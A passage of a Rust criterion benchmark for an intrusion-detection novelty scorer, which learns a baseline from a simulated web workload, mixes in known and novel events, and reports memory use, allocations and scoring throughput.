        "recorded {RECORD_INTERVALS} intervals + {} intrusion events: distinct known {}, \
         known through a collapse key {}, novel {}",
        intrusion().len(),
        distinct(&known).len(),
        distinct(&generalised).len(),
        novel_items.len()
    );
    println!("  novel: {}", novel_items.join(" | "));
    assert!(
        !known.is_empty() && !generalised.is_empty() && !novel.is_empty(),
        "the recording lacks a kind: known {}, generalised {}, novel {}",
        known.len(),
        generalised.len(),
        novel.len()
    );
    let take = |from: &[Observation], n: usize| -> Vec<Observation> {
        from.iter().cycle().take(n).cloned().collect()
    };
    let n_novel = STREAM_LEN / 100;
    let n_generalised = STREAM_LEN * 4 / 100;
    let n_known = STREAM_LEN - n_novel - n_generalised;
    let known_only = take(&known, STREAM_LEN);
    let mut mixed = take(&known, n_known);
    mixed.extend(take(&generalised, n_generalised));
    mixed.extend(take(&novel, n_novel));
    rng.shuffle(&mut mixed);
    (mixed, known_only)
}

fn describe_stream(name: &str, stream: &[Observation], scorer: &NoveltyScorer) {
    let mut scratch = Scratch::default();
    let mut by_familiarity: BTreeMap<&str, usize> = BTreeMap::new();
    let mut by_dimension: BTreeMap<&str, usize> = BTreeMap::new();
    for o in stream {
        let familiarity = match scorer.score(o, &mut scratch).familiarity {
            Familiarity::Known => "known",
            Familiarity::KnownGeneralised => "known_generalised",
            Familiarity::Novel => "novel",
        };
        *by_familiarity.entry(familiarity).or_default() += 1;
        *by_dimension.entry(o.dimension.name()).or_default() += 1;
    }
    let join = |m: &BTreeMap<&str, usize>| {
        m.iter()
            .map(|(k, v)| format!("{k} {v}"))
            .collect::<Vec<_>>()
            .join(", ")
    };
    println!(
        "stream {name}: {} events; {}; by dimension: {}",
        stream.len(),
        join(&by_familiarity),
        join(&by_dimension)
    );
}

fn setup() -> Setup {
    let mut rng = Rng(7);
    let workload = WebWorkload::new(&mut rng);

    // Warm up one-time global state (ahash's process seed, stdout) outside the measurements.
    {
        let p = Profile::new(WorkloadKey::host(), NODE, 0, ProfileConfig::default());
        let b = Baseline::freeze(&p, 0, true);
        black_box(NoveltyScorer::new(&b));
        println!();
    }

    let (profile, profile_heap) = measured(|| learn(&workload));
    let end = START_MS + LEARN_INTERVALS * INTERVAL_MS;
    let (baseline, baseline_heap) = measured(|| {
        let mut b = Baseline::freeze(&profile, end, false);
        calibrate::calibrate(&mut b, DEFAULT_FALSE_ALARM_RATE);
        b
    });
    drop(profile);
    let compact = baseline
        .to_json_vec()
        .unwrap_or_else(|e| panic!("encode baseline: {e}"));
    let pretty = baseline
        .to_json_pretty()
        .unwrap_or_else(|e| panic!("encode baseline: {e}"));
    let (loaded, loaded_heap) = measured(|| {
        Baseline::from_json_slice(&compact).unwrap_or_else(|e| panic!("decode baseline: {e}"))
    });
    assert_eq!(loaded, baseline, "the baseline file does not round-trip");
    drop(loaded);
    let (scorer, scorer_heap) = measured(|| NoveltyScorer::new(&baseline));

    let items: Vec<String> = Dimension::ALL
        .iter()
        .map(|&d| format!("{d} {}", baseline.stats(d).items))
        .collect();
    println!(
        "baseline {WORKLOAD}: {LEARN_INTERVALS} intervals of {} s, {} items ({}), {} syscall rates",
        INTERVAL_MS / 1000,
        baseline.items_total(),
        items.join(", "),
        baseline.syscall_rates.len()
    );
    // The daemon holds a frozen baseline after learning, and one read from the store after a
    // restart; count the larger of the two.
    let held = if loaded_heap.footprint > baseline_heap.footprint {
        loaded_heap
    } else {
        baseline_heap
    };
    let per_baseline = held.plus(scorer_heap);
    println!("memory per baseline (counting allocator; heap = malloc usable size + 8 B/block):");
    println!("  profile while learning     {}", profile_heap.describe());
    println!("  baseline (frozen+calib.)   {}", baseline_heap.describe());
    println!("  baseline (read from file)  {}", loaded_heap.describe());
    println!("  scorer index               {}", scorer_heap.describe());
    println!("  baseline + scorer (max)    {}", per_baseline.describe());
    println!(
        "  file                       {:>8.1} KiB compact JSON ({:.1} KiB pretty)",
        kib(compact.len() as i64),
        kib(pretty.len() as i64)
    );
    let target = 1024.0;
    println!(
        "memory: baseline={:.1} KiB (read from file {:.1} KiB) scorer={:.1} KiB \
         baseline+scorer={:.1} KiB file={:.1} KiB \
         (target <= {target:.0} KiB per typical web workload: {})",
        kib(baseline_heap.footprint),
        kib(loaded_heap.footprint),
        kib(scorer_heap.footprint),
        kib(per_baseline.footprint),
        kib(compact.len() as i64),
        if kib(per_baseline.footprint) <= target {
            "met"
        } else {
            "NOT MET"
        }
    );

    let (mixed, known) = record(&workload, &scorer);
    describe_stream("mixed", &mixed, &scorer);
    describe_stream("known", &known, &scorer);

    // The hot path must not allocate once the scratch has grown.
    let mut scratch = Scratch::default();
    black_box(score_all(&scorer, &mixed, &mut scratch));
    let before = ALLOCATIONS.load(Ordering::Relaxed);
    black_box(score_all(&scorer, &mixed, &mut scratch));
    let allocations = ALLOCATIONS.load(Ordering::Relaxed) - before;
    println!(
        "allocations while scoring {} events with a warm scratch: {allocations}",
        mixed.len()
    );
    println!("throughput below is single-threaded: criterion's thrpt is events/s per core");
    println!();

    Setup {
        baseline,
        scorer,
        mixed,
        known,
    }
}

/// Scores every observation; returns something that depends on every score.
fn score_all(scorer: &NoveltyScorer, stream: &[Observation], scratch: &mut Scratch) -> f64 {
    let mut sum = 0.0;
    for o in stream {
        let score = scorer.score(o, scratch);
        sum += score.score + f64::from(u8::from(score.is_novel()));
    }
    sum
}

fn bench_scorer(c: &mut Criterion) {
    let setup = setup();
    black_box(&setup.baseline);
    let scorer = &setup.scorer;
    let mut scratch = Scratch::default();

    let mut group = c.benchmark_group("scorer");
    group.throughput(Throughput::Elements(setup.mixed.len() as u64));
    group.bench_function("mixed", |b| {
        b.iter(|| score_all(scorer, black_box(&setup.mixed), &mut scratch));
    });
    group.throughput(Throughput::Elements(setup.known.len() as u64));
    group.bench_function("known", |b| {
        b.iter(|| score_all(scorer, black_box(&setup.known), &mut scratch));
    });
    group.finish();
}

criterion_group! {
    name = benches;
    config = Criterion::default()
        .warm_up_time(Duration::from_secs(1))
        .measurement_time(Duration::from_secs(3));
    targets = bench_scorer
}
criterion_main!(benches);
